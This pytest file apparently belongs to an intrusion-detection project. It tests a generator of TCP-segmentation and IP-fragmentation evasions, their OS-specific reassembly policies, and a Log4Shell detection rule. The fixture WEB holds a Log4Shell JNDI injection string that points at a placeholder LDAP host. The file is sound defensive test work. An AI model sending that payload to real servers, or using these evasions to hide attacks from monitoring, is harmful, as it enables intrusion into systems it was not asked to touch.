"""The generator: many evasions, each with its policies, and frames that say what the session says."""

from __future__ import annotations

import re
import socket
from collections import Counter
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ids.testing import MSS, Said, Session, to_client
from ids.testing.evade import FAMILIES, POLICIES, SERVERS, Evasion, Segment, evasions, frames, play
from ids.testing.evade.fragments import PLANS, in_ipv4, in_ipv6
from ids.testing.evade.packets import ip_packet
from ids.testing.evade.policies import datagram, newer_fragment_wins, newer_wins, stream
from ids.testing.evade.request import parse
from plugins.rules import Rules
from tests.shared import ROOT
from tests.test_testing import Listener

pytestmark = pytest.mark.long

WEB = b"GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
RAW = b"one two three four five six seven eight nine ten eleven twelve thirteen"
AT_LEAST = 80


def by_name(*said: bytes) -> dict[str, Evasion]:
    return {evasion.name: evasion for evasion in evasions(*said)}


def test_there_are_many_and_each_has_a_name_and_a_victim() -> None:
    made = list(evasions(WEB))
    assert len(made) >= AT_LEAST
    assert [name for name, count in Counter(evasion.name for evasion in made).items() if count > 1] == []
    assert {evasion.family for evasion in made} == set(FAMILIES)
    for evasion in made:
        assert evasion.policies, evasion.name
        assert evasion.policies <= {*POLICIES, *SERVERS}, evasion.name


def test_every_policy_is_evaded_by_some_that_another_is_not() -> None:
    of = {policy: {evasion.name for evasion in evasions(RAW) if policy in evasion.policies} for policy in POLICIES}
    for policy in ("first", "last", "bsd", "linux", "old-linux", "solaris"):
        others = [names for other, names in of.items() if other != policy and names != of[policy]]
        assert any(of[policy] - names for names in others), policy


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_families_can_be_chosen(family: str) -> None:
    made = list(evasions(WEB, families=(family,)))
    assert {evasion.family for evasion in made} == {family}


def test_other_bytes_than_a_request_have_no_tricks_of_requests() -> None:
    assert list(evasions(RAW, families=("requests",))) == []
    assert len(list(evasions(RAW))) >= AT_LEAST


def test_a_session_in_which_the_client_says_nothing_cannot_be_evaded() -> None:
    with pytest.raises(ValueError, match="something that the client says"):
        list(evasions(to_client(b"220 ready\r\n")))


@pytest.mark.parametrize("name", ["segments of 1 byte", "last segment first", "two fragments, the second first"])
def test_what_was_said_before_is_said_plainly(name: str) -> None:
    said: list[bytes | Said] = [b"EHLO there\r\n", to_client(b"250 hello\r\n"), RAW, to_client(b"250 done\r\n")]
    (evasion,) = [each for each in evasions(*said) if each.name == name]
    listener = Listener()
    session = Session(listener=listener)
    play(session, evasion, dport=25)
    session.end()
    assert list(listener.streams.values()) == [b"EHLO there\r\n" + RAW, b"250 hello\r\n250 done\r\n"]


UNEQUAL = ("junk", "urgent", "again", "interleaved", "idle", "long ago", "overlap", "seen", "without the TCP")
HARMLESS = [
    evasion.name
    for evasion in evasions(RAW, families=("segments", "fragments", "openings"))
    if not any(
        word in evasion.name
        for word in ("junk", "urgent", "again", "interleaved", "idle", "long ago", "overlap", "seen", "without the TCP")
    )
    and not any(step.connection for step in evasion.steps if isinstance(step, Segment))
    and "begins" not in evasion.name
]


@pytest.mark.parametrize("name", HARMLESS)
def test_evasions_without_decoys_say_the_same(name: str) -> None:
    listener = Listener()
    session = Session(listener=listener)
    play(session, by_name(RAW)[name])
    session.end()
    assert RAW in listener.streams.values()


def test_the_rules_can_be_tried_on_every_evasion() -> None:
    found = []
    for evasion in evasions(WEB, families=("segments", "openings")):
        session = Session(f"rules.paths=[{ROOT / 'rules' / 'base' / 'log4shell.yaml'}]", rules=Rules())
        play(session, evasion)
        found += [evasion.name] * (1000081 in session.sids)
    assert {"segments of 1 byte", "SYN sent twice", "the ports of a closed connection again"} <= set(found)


def test_the_example_in_the_documentation_runs() -> None:
    (example,) = re.findall(r"^```python\n(.*?)^```$", (ROOT / "docs" / "evasion.md").read_text(), re.M | re.S)
    names: dict[str, Any] = {}
    exec(compile(example, "docs/evasion.md", "exec"), names)
    names["test_log4shell_is_found_however_the_connection_opens"]()


def test_frames_are_the_same_each_time_and_in_order() -> None:
    for evasion in evasions(WEB):
        made = list(frames(evasion))
        assert made == list(frames(evasion)), evasion.name
        assert [at for at, _ in made] == sorted(at for at, _ in made), evasion.name
        assert all(len(frame) <= 14 + 1500 + 120 for _, frame in made), evasion.name


def test_a_long_session_keeps_to_full_segments() -> None:
    made = list(evasions(b"GET / HTTP/1.1\r\nHost: a\r\nCookie: " + b"c" * 3 * MSS + b"\r\n\r\n"))
    assert len(made) >= AT_LEAST
    for evasion in made:
        assert max(len(step.data) for step in evasion.steps if isinstance(step, Segment)) <= MSS, evasion.name


@given(st.binary(min_size=40, max_size=400), st.sampled_from(sorted(PLANS)))
def test_fragments_hold_the_packet(payload: bytes, name: str) -> None:
    for hosts, cut, at in (
        (("192.0.2.1", "203.0.113.1"), in_ipv4(PLANS[name]), 20),
        (("2001:db8::1", "2001:db8::2"), in_ipv6(PLANS[name]), 48),
    ):
        pieces = []
        for packet in cut(ip_packet(hosts, 6, payload)):
            field = packet[6:8] if at == 20 else packet[42:44]
            offset = int.from_bytes(field, "big") & (0x1FFF if at == 20 else 0xFFF8)
            pieces.append((offset * 8 if at == 20 else offset, packet[at:]))
        assert {datagram(policy, pieces) for policy in POLICIES} == {payload}


@pytest.mark.parametrize(
    ("policy", "old", "new", "wins"),
    [
        ("first", (10, 20), (5, 30), False), ("vista", (10, 20), (5, 30), False), ("last", (10, 20), (12, 15), True),
        ("bsd", (10, 20), (5, 15), True), ("bsd", (10, 20), (10, 30), False), ("windows", (10, 20), (10, 30), False),
        ("linux", (10, 20), (10, 20), False), ("linux", (10, 20), (10, 21), True), ("linux", (10, 20), (11, 30), False),
        ("old-linux", (10, 20), (10, 20), True), ("old-linux", (10, 20), (10, 19), False),
        ("solaris", (10, 20), (12, 21), True), ("solaris", (10, 20), (12, 20), False),
        ("solaris", (10, 20), (5, 15), False), ("hpux", (10, 20), (5, 20), True),
        ("macos", (10, 20), (5, 15), True), ("irix", (10, 20), (10, 30), False),
    ],
)  # fmt: skip
def test_whose_copy_of_a_segment_stays(policy: str, old: tuple[int, int], new: tuple[int, int], wins: bool) -> None:
    assert newer_wins(policy, old, new) is wins


@pytest.mark.parametrize(
    ("policy", "old", "new", "wins"),
    [
        ("first", (8, 24), (0, 32), False), ("last", (8, 24), (16, 24), True), ("bsd", (8, 24), (0, 16), True),
        ("bsd", (8, 24), (8, 32), False), ("bsd-right", (8, 24), (8, 32), True), ("bsd-right", (8, 24), (0, 32), False),
        ("old-linux", (8, 24), (8, 16), True), ("old-linux", (8, 24), (16, 32), False),
        ("windows", (8, 24), (0, 32), True), ("windows", (8, 24), (0, 24), False), ("solaris", (8, 24), (0, 24), True),
    ],
)  # fmt: skip
def test_whose_copy_of_a_fragment_stays(policy: str, old: tuple[int, int], new: tuple[int, int], wins: bool) -> None:
    assert newer_fragment_wins(policy, old, new) is wins


def test_linux_gives_up_datagrams_that_overlap_and_ignores_what_brings_nothing() -> None:
    assert datagram("linux", [(0, b"a" * 16), (8, b"b" * 16)]) is None
    assert datagram("linux", [(0, b"a" * 16), (8, b"b" * 8), (16, b"c")]) == b"a" * 16 + b"c"


@given(st.lists(st.tuples(st.integers(0, 20), st.integers(1, 10)), min_size=1, max_size=6))
def test_copies_that_agree_leave_nothing_to_decide(places: list[tuple[int, int]]) -> None:
    data = bytes(range(32))
    pieces = [(0, data[:1]), *((at, data[at : at + size]) for at, size in places)]
    assert len({stream(policy, pieces) for policy in POLICIES}) == 1


def test_requests_come_apart_and_together_again() -> None:
    request = parse(WEB)
    assert request is not None
    assert request.text() == WEB
    assert (request.method, request.header(b"host")) == (b"GET", b"www.example.org")
    assert parse(b"GET / HTTP/1.1\n\n") is None


def test_addresses_and_ports_are_those_asked_for() -> None:
    evasion = by_name(RAW)["segments of 64 bytes"]
    _, syn = next(iter(frames(evasion, "198.51.100.7", "203.0.113.9", 1234, 8080)))
    assert (syn[26:30], syn[30:34]) == (socket.inet_aton("198.51.100.7"), socket.inet_aton("203.0.113.9"))
    assert (int.from_bytes(syn[34:36], "big"), int.from_bytes(syn[36:38], "big")) == (1234, 8080)
